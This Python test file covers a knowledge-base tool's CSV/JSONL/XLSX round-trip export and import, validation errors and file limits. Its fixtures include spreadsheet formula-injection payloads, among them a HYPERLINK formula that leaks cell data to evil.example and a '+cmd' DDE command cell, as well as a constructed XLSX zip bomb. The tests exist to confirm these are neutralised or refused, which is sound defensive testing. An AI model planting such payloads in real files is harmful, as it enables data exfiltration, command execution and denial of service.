"""CSV / JSONL / XLSX: byte-identical export -> import -> export, file-level errors."""
import datetime as dt
import json
import os

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from kb import Entry, KBStore
from kb.entry import MAX_CATEGORY_LEVELS
from kb.errors import ImportRejected, UnsupportedFormat
from kb.io import escape_cell, read_rows, unescape_cell, write_entries

FORMATS = ["csv", "jsonl", "xlsx"]

TRICKY = [
    Entry(id="007", question="社保卡丢了怎么补办？", answer="## 补办\n1. 带身份证\n2. 去窗口, \"当场\"办结\t（免费）",
          similar_questions=["社保卡 丢失", "=SUM(A1)", "123"], department=["市人社局", "市医保局"],
          category=["社会保障", "社保卡", "补办"], tags=["高频", "+1"], region="临江区",
          valid_from="2025-01-01", valid_to="2026-01-01", status="published", source="政策文件 2025-3号"),
    Entry(id="kb-α", question="=1+1", answer="-负号开头", status="draft"),
    Entry(id="12", question="123", answer="0.50", status="retired", region="", source="@user"),
    Entry(id="x,y", question='带"引号",逗号', answer="多行\n\n空行", tags=["a b"]),
]


def roundtrip(tmp_path, fmt, entries, name="a"):
    src = KBStore(tmp_path / f"{name}-src.sqlite3")
    src.import_rows([e.to_dict() for e in entries])
    first, second = tmp_path / f"{name}1.{fmt}", tmp_path / f"{name}2.{fmt}"
    assert src.export_file(first) == len(entries)
    dst = KBStore(tmp_path / f"{name}-dst.sqlite3")
    report = dst.import_file(first, progress=False)
    assert report.added == len(entries) and not report.rejected
    dst.export_file(second)
    return src, dst, first, second


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_import_export_is_byte_identical(tmp_path, fmt):
    src, dst, first, second = roundtrip(tmp_path, fmt, TRICKY)
    assert first.read_bytes() == second.read_bytes()
    assert [e.to_dict() for e in dst.iter_entries()] == [e.to_dict() for e in src.iter_entries()]
    # importing the same file again changes nothing at all
    seq = dst.last_seq()
    assert dst.import_file(first, progress=False).unchanged == len(TRICKY)
    assert dst.last_seq() == seq


def test_formats_hold_the_expected_representation(tmp_path):
    src, _, _, _ = roundtrip(tmp_path, "csv", TRICKY[:1])
    src.export_file(tmp_path / "x.jsonl")
    row = json.loads((tmp_path / "x.jsonl").read_text(encoding="utf-8"))
    assert row["similar_questions"] == ["社保卡 丢失", "=SUM(A1)", "123"] and row["valid_to"] == "2026-01-01"
    text = (tmp_path / "a1.csv").read_text(encoding="utf-8-sig")
    assert text.splitlines()[0].startswith("id,question,similar_questions,answer,department")
    assert "社保卡 丢失|=SUM(A1)|123" in text
    import openpyxl
    src.export_file(tmp_path / "x.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    assert ws["C2"].value == "社保卡 丢失|=SUM(A1)|123" and ws["C2"].data_type == "s"


FORMULAS = [
    Entry(id="f1", question='=HYPERLINK("http://evil.example/?x="&A1,"点这里")', answer="+cmd|' /C calc'!A0"),
    Entry(id="f2", question="-1+1", answer="@SUM(A1:A9)", source="=1+1", region="-"),
    Entry(id="f3", question="'abc", answer="''=1+1", tags=["=x", "b"], similar_questions=["'=1", "ok"]),
    Entry(id="f4", question="'", answer="普通答案 =1+1", category=["@a"], department=["+b"]),
    Entry(id="=f5", question="'-5", answer="-"),
]


def test_csv_export_neutralises_formula_cells(tmp_path):
    import csv
    src, dst, first, second = roundtrip(tmp_path, "csv", FORMULAS)
    with open(first, encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    # no cell a spreadsheet would run as a formula (after dropping a leading tab / CR)
    assert not [c for c in cells if c.lstrip("\t\r")[:1] in ("=", "+", "-", "@")]
    assert {"'-1+1", "'@SUM(A1:A9)", "''abc", "'''=1+1", "''", "'=x|b", "''=1|ok", "'=f5",
            "'+cmd|' /C calc'!A0", "''-5", "'-", """'=HYPERLINK("http://evil.example/?x="&A1,"点这里")"""
            } <= set(cells)
    assert "普通答案 =1+1" in cells     # only the first character matters
    # ... and the escape comes off exactly on import: same entries, byte-identical re-export
    assert first.read_bytes() == second.read_bytes()
    assert [e.to_dict() for e in dst.iter_entries()] == [e.to_dict() for e in src.iter_entries()]
    assert dst.get("f3").question == "'abc" and dst.get("f2").question == "-1+1"
    assert dst.get("f3").similar_questions == ["'=1", "ok"] and dst.get("=f5").question == "'-5"


@pytest.mark.parametrize("fmt", ["jsonl", "xlsx"])
def test_formula_like_text_roundtrips_unescaped_in_other_formats(tmp_path, fmt):
    src, dst, first, second = roundtrip(tmp_path, fmt, FORMULAS)
    assert first.read_bytes() == second.read_bytes()
    assert [e.to_dict() for e in dst.iter_entries()] == [e.to_dict() for e in src.iter_entries()]
    if fmt == "xlsx":   # typed string cells are never formulas, so no escape is added
        import openpyxl
        ws = openpyxl.load_workbook(first).active
        question = {row[0].value: row[1] for row in ws.iter_rows(min_row=2)}   # rows ordered by id
        assert question["f1"].value.startswith("=HYPERLINK(") and question["f1"].data_type == "s"
        assert question["f3"].value == "'abc" and question["=f5"].value == "'-5"


def test_hand_made_csv_cells_with_a_quote(tmp_path):
    path = tmp_path / "hand.csv"
    path.write_text("id,question,answer\nq1,'abc,'=1+1\nq2,''x,a'b\n", encoding="utf-8")
    store = KBStore(tmp_path / "kb.sqlite3")
    store.import_file(path, progress=False)
    # "'abc" carries no escape and stays; "'=1+1" is how a spreadsheet user types the text "=1+1"
    assert (store.get("q1").question, store.get("q1").answer) == ("'abc", "=1+1")
    assert (store.get("q2").question, store.get("q2").answer) == ("'x", "a'b")


@given(st.one_of(st.text(max_size=8), st.text("'=+-@\t\r a", max_size=6), st.none(), st.integers()))
def test_unescape_undoes_escape(value):
    escaped = escape_cell(value)
    assert unescape_cell(escaped) == value
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r", "'"):
        assert escaped == "'" + value
    else:
        assert escaped == value


def test_import_report_cells_are_escaped(tmp_path):
    path = tmp_path / "bad.csv"
    path.write_text('id,question,answer\n"=HYPERLINK(""mailto:x"",""y"")",,a\n', encoding="utf-8")
    store = KBStore(tmp_path / "kb.sqlite3")
    store.import_file(path, skip_invalid=True, progress=False, report_path=tmp_path / "r.csv")
    lines = (tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines[1].startswith('2,"\'=HYPERLINK(""mailto:x"",""y"")",question,')


def test_two_exports_at_different_times_are_identical(tmp_path):
    store = KBStore(tmp_path / "kb.sqlite3")
    store.import_rows([e.to_dict() for e in TRICKY])
    store.export_file(tmp_path / "a.xlsx")
    import time
    time.sleep(2.1)   # zip timestamps have a 2-second resolution
    store.export_file(tmp_path / "b.xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


_text = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff",
                                  whitelist_characters="\n\t\r"), max_size=30)
_item = _text.map(lambda s: s.replace("|", "/").strip()).filter(bool)
_date = st.dates(dt.date(1990, 1, 1), dt.date(2040, 1, 1))


@st.composite
def entries(draw):
    out = []
    for i in range(draw(st.integers(1, 4))):
        ident = f"id{i}-" + draw(st.text("abc数字09-_", max_size=5))
        a, b = sorted([draw(_date), draw(_date)])
        a, b = draw(st.sampled_from([(a, b), (a, None), (None, b), (None, None)]))
        raw = dict(id=ident, question=draw(_text.filter(lambda s: s.strip())),
                   answer=draw(_text.map(lambda s: s + "\n答").filter(str.strip)),
                   similar_questions=draw(st.lists(_item, max_size=3)),
                   department=draw(st.lists(_item, max_size=2)),
                   category=draw(st.lists(_item, max_size=MAX_CATEGORY_LEVELS)),
                   tags=draw(st.lists(_item, max_size=2)), region=draw(_text),
                   valid_from=a and a.isoformat(), valid_to=b and b != a and b.isoformat() or None,
                   status=draw(st.sampled_from(["draft", "published", "retired"])), source=draw(_text))
        out.append(Entry.from_dict(raw))
    return out


@pytest.mark.parametrize("fmt", FORMATS)
@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=entries())
def test_roundtrip_property(tmp_path_factory, fmt, data):
    tmp = tmp_path_factory.mktemp(fmt)
    src, dst, first, second = roundtrip(tmp, fmt, data)
    assert first.read_bytes() == second.read_bytes()
    assert [e.to_dict() for e in dst.iter_entries()] == [e.to_dict() for e in src.iter_entries()]


def test_minimal_csv_and_row_numbers(tmp_path):
    path = tmp_path / "min.csv"
    path.write_text("id,question,answer\n1,怎么办居住证,\"去派出所,\n带照片\"\n,,\n2,,缺问题\n3,q,\n",
                    encoding="utf-8")
    store = KBStore(tmp_path / "kb.sqlite3")
    with pytest.raises(ImportRejected) as exc:
        store.import_file(path, progress=False)
    # row 3 is blank (skipped); rows 4 and 5 are bad
    assert [(e.row, e.id, e.field) for e in exc.value.errors] == [(4, "2", "question"), (5, "3", "answer")]
    assert store.count() == 0
    report = store.import_file(path, skip_invalid=True, progress=False, report_path=tmp_path / "r.csv")
    assert report.added == 1 and store.get("1").answer == "去派出所,\n带照片"
    lines = (tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines[0] == "row,id,field,message" and lines[1].startswith("4,2,question,")


def test_import_refuses_ids_that_break_urls_with_their_rows(tmp_path):
    path = tmp_path / "ids.csv"
    path.write_text("id,question,answer\nok-1,q,a\na/b,q,a\n居住证-01,q,a\nx?y,q,a\n%41,q,a\n"
                    "\"a b\",q,a\n..,q,a\n", encoding="utf-8")
    store = KBStore(tmp_path / "kb.sqlite3")
    with pytest.raises(ImportRejected) as exc:
        store.import_file(path, progress=False)
    assert [(e.row, e.id, e.field) for e in exc.value.errors] == [
        (3, "a/b", "id"), (5, "x?y", "id"), (6, "%41", "id"), (7, "a b", "id"), (8, "..", "id")]
    assert "/v1/kb/entries/<id>" in exc.value.errors[0].message
    assert store.count() == 0
    report = store.import_file(path, skip_invalid=True, progress=False)
    assert report.added == 2 and [e.id for e in store.iter_entries()] == ["ok-1", "居住证-01"]


@pytest.mark.parametrize("header, words", [
    ("id,question", "answer: required column is missing"),
    ("id,question,answer,depatment", "depatment: unknown column"),
    ("id,question,answer,id", "id: column appears twice"),
])
def test_bad_header_rejects_the_file(tmp_path, header, words):
    path = tmp_path / "h.csv"
    path.write_text(header + "\n", encoding="utf-8")
    with pytest.raises(ImportRejected, match=words):
        KBStore(tmp_path / "kb.sqlite3").import_file(path, progress=False)


def test_jsonl_bad_lines_and_unsupported_extension(tmp_path):
    path = tmp_path / "k.jsonl"
    path.write_text('{"id": "a", "question": "q", "answer": "x"}\n\n{"id": "b",\n[1]\n'
                    '{"id": "c", "question": "q", "answer": "x", "tags": "t1|t2"}\n', encoding="utf-8")
    store = KBStore(tmp_path / "kb.sqlite3")
    with pytest.raises(ImportRejected) as exc:
        store.import_file(path, progress=False)
    assert [(e.row, e.field) for e in exc.value.errors] == [(3, "json"), (4, "json")]
    store.import_file(path, skip_invalid=True, progress=False)
    assert store.get("c").tags == ["t1", "t2"]
    with pytest.raises(UnsupportedFormat, match=r"'\.txt', expected one of \.csv, \.jsonl, \.xlsx"):
        write_entries(tmp_path / "k.txt", [])
    from kb.errors import KBFileNotFound
    with pytest.raises(KBFileNotFound, match="missing.csv does not exist"):
        store.import_file(tmp_path / "missing.csv")


def test_hand_made_xlsx_with_numbers_and_dates(tmp_path):
    import openpyxl
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "我的知识库"
    ws.append(["id", "question", "answer", "valid_from", "revision", "department"])
    ws.append([101, "问题", 3.5, dt.datetime(2025, 2, 1), None, "市人社局| 市医保局 "])
    ws.append([None, None, None, None, None, None])
    wb.save(tmp_path / "hand.xlsx")
    rows = list(read_rows(tmp_path / "hand.xlsx"))
    assert [r for r, _ in rows] == [2]
    store = KBStore(tmp_path / "kb.sqlite3")
    store.import_file(tmp_path / "hand.xlsx", progress=False)
    e = store.get("101")
    assert (e.answer, e.valid_from, e.department, e.revision) == ("3.5", "2025-02-01", ["市人社局", "市医保局"], 1)


@pytest.mark.slow
@pytest.mark.parametrize("fmt", FORMATS)
def test_23k_roundtrip_is_byte_identical(tmp_path, fmt):
    from bench.bench_kb_import import synthetic_rows
    rows = synthetic_rows(23000)
    _, dst, first, second = roundtrip(tmp_path, fmt, [Entry.from_dict(r) for r in rows])
    assert dst.count() == 23000 and first.read_bytes() == second.read_bytes()


# ------------------------------------------------------------------ file limits
def _xlsx_with(tmp_path, name="bomb.xlsx", members=None):
    """A real workbook (two entries) with ``members`` ({name: bytes}) added or replaced."""
    import io
    import zipfile
    store = KBStore(tmp_path / f"{name}.sqlite3")
    store.import_rows([e.to_dict() for e in TRICKY[:2]])
    plain = tmp_path / f"plain-{name}"
    store.export_file(plain)
    members = members or {}
    out = tmp_path / name
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename not in members:
                dst.writestr(info.filename, src.read(info.filename))
        for member, body in members.items():
            dst.writestr(member, body)
    return out


def _shared_strings(n: int) -> bytes:
    """``n`` shared strings, ~17 bytes each, compressing about 500x: a miniature of the
    2.4 MB file whose 60 M shared strings ran past 150 s."""
    return (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main" count="%d" uniqueCount="%d">' % (n, n)
            + b"<si><t>a</t></si>" * n + b"</sst>")


def test_xlsx_zip_bomb_is_refused_before_parsing(tmp_path, monkeypatch):
    import openpyxl
    import zipfile
    from kb.io import FileLimits
    path = _xlsx_with(tmp_path, members={"xl/sharedStrings.xml": _shared_strings(250_000)})   # 4.25 MB
    info = zipfile.ZipFile(path).getinfo("xl/sharedStrings.xml")
    assert info.file_size > 100 * info.compress_size and path.stat().st_size < 100_000

    def never(*a, **k):
        raise AssertionError("openpyxl must not see a refused archive")
    monkeypatch.setattr(openpyxl, "load_workbook", never)
    store = KBStore(tmp_path / "kb.sqlite3")
    store.import_rows([TRICKY[3].to_dict()])
    seq = store.last_seq()
    with pytest.raises(UnsupportedFormat, match=r"XLSX member 'xl/sharedStrings.xml' unpacks .* at most "
                                                r"ratio 100 is allowed for members over 1,048,576 bytes"):
        store.import_file(path, progress=False)
    assert store.last_seq() == seq and store.count() == 1
    # the declared total, the member count: limits are parameters
    big = FileLimits(xlsx_max_ratio=10**6, xlsx_max_total_bytes=4 * 2**20)
    with pytest.raises(UnsupportedFormat, match=r"unpacks to 4,\d{3},\d{3} bytes \(largest member "
                                                r"'xl/sharedStrings.xml': 4,\d{3},\d{3}\); at most 4,194,304"):
        read_rows(path, limits=big)
    with pytest.raises(UnsupportedFormat, match=r"has 10 members, at most 9 allowed"):
        read_rows(path, limits=FileLimits(xlsx_max_members=9))


def test_xlsx_within_the_limits_still_reads(tmp_path):
    from kb.io import FileLimits, check_xlsx_archive
    # a small member may compress very well; a big one within the ratio is fine
    path = _xlsx_with(tmp_path, members={"xl/extra.bin": b"\0" * 2**20, "xl/media/x.bin": os.urandom(2**21)})
    check_xlsx_archive(path)
    rows = list(read_rows(path))
    assert [r["id"] for _, r in rows] == ["007", "kb-α"]
    check_xlsx_archive(path, FileLimits(xlsx_max_members=11, xlsx_max_total_bytes=4 * 2**20))
    # not a zip at all: reported by the reader as before
    (tmp_path / "junk.xlsx").write_bytes(b"not a zip")
    check_xlsx_archive(tmp_path / "junk.xlsx")
    with pytest.raises(ImportRejected, match="not a readable XLSX workbook"):
        list(read_rows(tmp_path / "junk.xlsx"))


@pytest.fixture
def wide_field_limit():
    """Another reader in the process (hotline.batch.readers) raised csv's global limit."""
    import csv
    previous = csv.field_size_limit(2**30)
    yield 2**30
    csv.field_size_limit(previous)


def test_csv_cell_over_the_limit_is_refused_with_its_row(tmp_path, wide_field_limit):
    import csv
    from kb.io import FileLimits
    store = KBStore(tmp_path / "kb.sqlite3")
    store.import_rows([TRICKY[3].to_dict()])
    seq = store.last_seq()
    path = tmp_path / "big.csv"
    cell = ("长" * 999 + "\n") * 1100     # 1.1 M characters in short lines: the cell limit, not the line limit
    path.write_text(f'id,question,answer\na,q,a\nb,q,"{cell}"\nc,q,a\n', encoding="utf-8")
    with pytest.raises(UnsupportedFormat, match=r"big.csv: row 3: a cell is longer than 1,048,576 "
                                                r"characters, the most a KB file may hold; refused"):
        store.import_file(path, skip_invalid=True, progress=False)
    assert store.last_seq() == seq and store.count() == 1
    assert csv.field_size_limit() == wide_field_limit     # the process-wide value is restored
    # a smaller cell under the default limit is an ordinary invalid row (text > 32,000 characters)
    path.write_text(f'id,question,answer\na,q,a\nb,q,"{cell[:40_000]}"\n', encoding="utf-8")
    report = store.import_file(path, skip_invalid=True, progress=False, report_path=tmp_path / "r.csv")
    assert report.added == 1 and [(e.row, e.field) for e in report.rejected] == [(3, "answer")]
    # one long physical line is refused without being read whole
    path.write_text("id,question,answer\n" + "a,q," + "x" * 5000 + "\n", encoding="utf-8")
    with pytest.raises(UnsupportedFormat, match=r"row 2: a line is longer than 4,000 characters"):
        list(read_rows(path, limits=FileLimits(max_line_chars=4000)))
    with pytest.raises(UnsupportedFormat, match=r"row 2: a cell is longer than 1,000 characters"):
        list(read_rows(path, limits=FileLimits(max_cell_chars=1000)))
    assert csv.field_size_limit() == wide_field_limit


def test_absurd_column_counts_are_refused_in_one_error(tmp_path):
    import openpyxl
    path = tmp_path / "wide.csv"
    path.write_text(",".join(f"c{i}" for i in range(100_000)) + "\n1,2,3\n", encoding="utf-8")
    store = KBStore(tmp_path / "kb.sqlite3")
    with pytest.raises(UnsupportedFormat) as exc:
        store.import_file(path, progress=False)
    assert str(exc.value).endswith("wide.csv: row 1 has 100,000 cells, at most 200 columns allowed "
                                   "(a KB file has at most 15); refused; the KB was not changed")
    path.write_text("id,question,answer\nq1,q,a\nq2,q,a" + "," * 200 + "\n", encoding="utf-8")
    with pytest.raises(UnsupportedFormat, match="row 3 has 203 cells, at most 200"):
        store.import_file(path, progress=False)
    path.write_text("id,question,answer\nq1,q,a" + "," * 197 + "\n", encoding="utf-8")   # 200 cells: fine
    assert store.import_file(path, progress=False).added == 1
    wb = openpyxl.Workbook()
    wb.active.append(["id", "question", "answer"] + [f"c{i}" for i in range(300)])
    wb.save(tmp_path / "wide.xlsx")
    with pytest.raises(UnsupportedFormat, match="row 1 has 303 cells, at most 200"):
        list(read_rows(tmp_path / "wide.xlsx"))
